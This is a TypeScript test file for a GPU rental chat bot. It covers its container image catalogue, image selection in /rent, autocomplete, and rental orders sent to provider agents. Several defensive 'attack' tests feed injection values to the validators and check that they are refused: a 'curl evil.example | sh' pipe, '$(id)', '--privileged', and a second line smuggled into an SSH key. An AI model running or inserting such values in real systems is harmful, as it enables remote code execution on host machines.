import { expect, test } from 'vitest'
import { commandRegistry } from '../../commands/registry.ts'
import { agentRentalSchema } from '../../src/agent/agentResponses.ts'
import { autocompleteSources } from '../../src/app/autocompleteSources.ts'
import { SshKeys } from '../../src/identity/SshKeys.ts'
import { checkWorkloadImages, DEFAULT_WORKLOAD_IMAGES } from '../../src/market/workloadImages.ts'
import { SSH_KEYS } from '../identity/sshKeyFixtures.ts'
import { createMarketHarness } from '../support/marketHarness.ts'
import { marketPipeline } from '../support/marketPipeline.ts'

const chat = { id: 'dm', kind: 'private' as const }
const alice = { platform: 'telegram' as const, id: 'alice', name: 'alice' }
const PYTORCH = 'pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime'
const TENSORFLOW = 'tensorflow/tensorflow:2.17.0-gpu'

function setUp() {
  const h = createMarketHarness()
  const sshKeys = new SshKeys({ db: h.db, clock: () => h.clock.now })
  const pipeline = marketPipeline(h, { sshKeys }, { autocomplete: autocompleteSources(commandRegistry) })
  const say = async (text: string) => (await pipeline.runText(alice, chat, text))!
  /** /rent, then Confirm: the new rental's row. */
  const rent = async (text: string) => {
    const quote = await say(text)
    const confirm = quote.buttons?.find((b) => b.label === 'Confirm')
    expect(confirm, quote.text).toBeDefined()
    const pressed = await pipeline.press(alice, chat, 'action' in confirm! ? confirm.action : '')
    const id = /rental (r\w+)/.exec(pressed.status === 'ok' ? pressed.reply.text! : '')![1]!
    return h.sqlite.prepare('select id, image_name as imageName, image, status from rentals where id = ?').get(id) as { id: string; imageName: string; image: string; status: string }
  }
  const setCatalogue = (value: object) => h.params.set('workload_images', JSON.stringify(value), { setByProposal: 'p1', now: h.clock.now })
  return { h, sshKeys, pipeline, say, rent, setCatalogue, renter: h.renter('alice', 100) }
}

test('the default catalogue is valid and names pytorch as the default', () => {
  expect(checkWorkloadImages(JSON.stringify(DEFAULT_WORKLOAD_IMAGES))).toBeUndefined()
  expect(DEFAULT_WORKLOAD_IMAGES.default).toBe('pytorch')
  expect(DEFAULT_WORKLOAD_IMAGES.images.pytorch).toBe(PYTORCH)
})

test.each([
  ['a shell command after the reference', { default: 'x', images: { x: 'ubuntu:22.04; curl evil.example | sh' } }, 'image "x" should be a reference such as pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime'],
  ['a command substitution', { default: 'x', images: { x: '$(id)' } }, 'image "x" should be a reference such as pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime'],
  ['a quote', { default: 'x', images: { x: "ubuntu'" } }, 'image "x" should be a reference such as pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime'],
  ['a docker flag', { default: 'x', images: { x: '--privileged' } }, 'image "x" should be a reference such as pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime'],
  ['a name with a space', { default: 'a b', images: { 'a b': 'ubuntu' } }, 'image name "a b" should be 1-32 lowercase letters, digits, - or _'],
  ['a default that is not in it', { default: 'jax', images: { pytorch: PYTORCH } }, 'expected "default" to name one of the images'],
  ['no images', { default: 'x', images: {} }, 'expected 1 to 50 images'],
])('attack: a proposal cannot set a catalogue with %s', (_name, value, problem) => {
  const { h } = setUp()
  expect(() => h.params.set('workload_images', JSON.stringify(value), { setByProposal: 'p1', now: 0 })).toThrow(`for workload_images is not valid: ${problem}.`)
  expect(h.params.get('workload_images')).toBe(JSON.stringify(DEFAULT_WORKLOAD_IMAGES))
})

test('references with a registry, port, path, tag and digest are accepted', () => {
  const digest = `sha256:${'ab'.repeat(32)}`
  expect(checkWorkloadImages(JSON.stringify({ default: 'a', images: { a: `ghcr.io:443/gridshare/ssh-cuda:12.4@${digest}`, b: 'nvcr.io/nvidia/pytorch:24.05-py3', c: 'ubuntu' } }))).toBeUndefined()
})

test('/rent without image: gets the default; image:<name> picks from the catalogue; both are stored on the rental', async () => {
  const t = setUp()
  t.h.provider(1)
  const quote = await t.say('/rent H100-80GB 1 image:tensorflow')
  expect(quote.fields).toContainEqual({ name: 'Image', value: `tensorflow (${TENSORFLOW})` })
  expect(await t.rent('/rent H100-80GB 1 image:TensorFlow')).toMatchObject({ imageName: 'tensorflow', image: TENSORFLOW, status: 'pending' })
  expect(await t.rent('/rent H100-80GB 1')).toMatchObject({ imageName: 'pytorch', image: PYTORCH })
})

test('attack: an image name that is not in the catalogue is refused with the names there are, before any quote', async () => {
  const t = setUp()
  t.h.provider(1)
  expect(await t.say('/rent H100-80GB 1 image:evil;sh')).toEqual({
    text: 'There is no image "evil;sh"; choose one of pytorch, cuda, tensorflow (default pytorch), e.g. image:pytorch.',
    error: true,
    private: true,
  })
  expect(t.h.sqlite.prepare('select count(*) as n from actions').get()).toEqual({ n: 0 })
})

test('image: autocompletes from the catalogue as it is now', async () => {
  const t = setUp()
  expect(await t.pipeline.autocomplete(alice, chat, 'rent', 'image', '')).toEqual(['pytorch', 'cuda', 'tensorflow'])
  expect(await t.pipeline.autocomplete(alice, chat, 'rent', 'image', 'TE')).toEqual(['tensorflow'])
  t.setCatalogue({ default: 'jax', images: { jax: 'ghcr.io/nvidia/jax:base' } })
  expect(await t.pipeline.autocomplete(alice, chat, 'rent', 'image', '')).toEqual(['jax'])
})

test('a catalogue changed by governance applies to the next /rent', async () => {
  const t = setUp()
  t.h.provider(1)
  t.setCatalogue({ default: 'jax', images: { jax: 'ghcr.io/nvidia/jax:base' } })
  expect(await t.rent('/rent H100-80GB 1')).toMatchObject({ imageName: 'jax', image: 'ghcr.io/nvidia/jax:base' })
  expect((await t.say('/rent H100-80GB 1 image:pytorch')).text).toBe('There is no image "pytorch"; choose one of jax (default jax), e.g. image:jax.')
})

test("the agent's rental order carries the image and the renter's keys as they are at that heartbeat", async () => {
  const t = setUp()
  const { address, nodeId } = t.h.provider(1)
  t.sshKeys.add(t.renter, SSH_KEYS.ed25519.line)
  t.sshKeys.add(t.renter, SSH_KEYS.ecdsa256.line)
  const rental = await t.rent('/rent H100-80GB 1 image:cuda')
  const order = t.h.registry.heartbeat(address, nodeId, {}).start[0]!
  expect(order).toMatchObject({ id: rental.id, image: 'nvidia/cuda:12.4.1-runtime-ubuntu22.04', sshPublicKeys: [SSH_KEYS.ed25519.line, SSH_KEYS.ecdsa256.line] })
  // What the agent accepts is what the coordinator sends.
  expect(agentRentalSchema.parse(order)).toEqual(order)

  t.h.rentals.claim(address, rental.id)
  t.sshKeys.delete(t.renter, '1')
  t.h.clock.now += 1000
  expect(t.h.registry.heartbeat(address, nodeId, {}).active[0]!.sshPublicKeys).toEqual([SSH_KEYS.ecdsa256.line])
})

test('attack: the agent refuses an order whose image or key would carry shell or a second line', () => {
  const order = { id: 'r1', gpuCount: 1, endsAt: 1, accessSecret: 's' }
  expect(agentRentalSchema.safeParse({ ...order, image: 'ubuntu; sh' }).success).toBe(false)
  expect(agentRentalSchema.safeParse({ ...order, sshPublicKeys: [`${SSH_KEYS.ed25519.line}\nssh-rsa AAAA`] }).success).toBe(false)
  expect(agentRentalSchema.safeParse({ ...order, image: PYTORCH, sshPublicKeys: [SSH_KEYS.ed25519.line] }).success).toBe(true)
  // An older coordinator sends neither.
  expect(agentRentalSchema.parse(order)).toEqual(order)
})

test('a rental moved off a failed node keeps its image, even one the catalogue dropped since', async () => {
  const t = setUp()
  const first = t.h.provider(1)
  const rental = await t.rent('/rent H100-80GB 1 image:tensorflow')
  expect(rental.id).toBeDefined()
  t.h.provider(2)
  t.setCatalogue({ default: 'pytorch', images: { pytorch: PYTORCH } })
  t.h.sqlite.prepare('update nodes set online = 0 where id = ?').run(first.nodeId)
  t.h.rentals.handleNodeOffline(first.nodeId)
  expect(t.h.sqlite.prepare('select image_name as imageName, image, status from rentals where replaces_id = ?').get(rental.id)).toEqual({ imageName: 'tensorflow', image: TENSORFLOW, status: 'pending' })
})
